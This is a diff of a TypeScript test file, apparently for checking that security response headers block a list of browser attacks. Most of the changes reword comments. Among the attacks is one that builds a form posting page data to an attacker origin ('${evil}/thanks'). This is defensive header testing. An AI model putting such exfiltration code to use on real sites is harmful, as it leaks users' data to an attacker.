@@ -1,23 +1,26 @@
-/** What an attack gets in the page it runs in. */
+/** The tools that an attack gets in its page. */
 interface Tools {
-  /** Origin of somebody who means harm. */
+  /** Origin of the attacker. */
   evil: string;
-  /** Address of the attacked page, and of files beside it. */
+  /** Returns the address of the attacked page, or of a file next to it. */
   target: (file: string) => string;
   tell: (outcome: 'fired' | 'blocked') => void;
 }
 
 interface Attack {
   name: string;
-  /** Runs in the browser, as the text of a script: it sees nothing of this file. */
+  /** Runs in the browser as the text of a script, so it can't use anything in this file. */
   run: (tools: Tools) => unknown;
-  /** Where the script runs: in the attacked page, as a bug or a bad package would, or in a page of the attacker's. */
+  /**
+   * Where the script runs. Absent: in the attacked page, like a bug or a malicious package. `evil`: in a page of the
+   * attacker.
+   */
   from?: 'evil';
-  /** More markup of the attacked page. */
+  /** More markup for the attacked page. */
   markup?: string;
 }
 
-/** Each has to succeed without the response headers, or else it proves nothing, and to fail with them. */
+/** Each attack must succeed without the response headers, to prove that it is real, and fail with them. */
 export const ATTACKS: readonly Attack[] = [
   {
     name: 'markup in a text that is put into the page',
@@ -84,7 +87,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: 'data sent away in a form',
     run: ({ evil }) => {
-      // A window of its own: a refused submission would leave this page loading for ever.
+      // Submits into its own window, because a refused submission would leave this page loading forever.
       const [action, method, target] = [`${evil}/thanks`, 'post', 'thanks'];
       const form = Object.assign(document.createElement('form'), { action, method, target });
       document.body.append(form);
